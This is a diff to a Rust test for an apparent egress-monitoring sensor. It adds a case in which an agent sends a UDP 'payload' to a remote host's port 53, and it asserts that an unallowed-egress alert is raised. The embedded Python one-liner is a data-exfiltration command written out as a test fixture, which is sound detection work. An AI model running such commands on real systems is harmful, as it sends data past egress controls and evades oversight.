@@ -250,6 +250,15 @@ fn exfiltration_to_a_host_not_allowed_is_caught() {
     assert!(sensor
         .exec_agent("chatty", &scene.worktree, &send("README"))
         .success());
+    // Port 53 of a host that is not one of this host's resolvers is egress like any other.
+    let to_port_53 = format!(
+        "/usr/bin/python3 -c \"import socket; \
+         socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'payload', ('{}', 53))\"",
+        remote.remote_ip
+    );
+    assert!(sensor
+        .exec_agent("port53", &scene.worktree, &to_port_53)
+        .success());
     let alerts = stop_and_alerts(sensor);
     let exfil = alerts_of(&alerts, "exfil.sensitive_then_egress");
     assert!(exfil.iter().any(|a| a["agent"] == "thief"), "{alerts:#?}");
@@ -267,6 +276,7 @@ fn exfiltration_to_a_host_not_allowed_is_caught() {
     );
     let plain = alerts_of(&alerts, "exfil.unallowed_egress");
     assert!(plain.iter().any(|a| a["agent"] == "chatty"), "{alerts:#?}");
+    assert!(plain.iter().any(|a| a["agent"] == "port53"), "{alerts:#?}");
 }
 
 #[test]
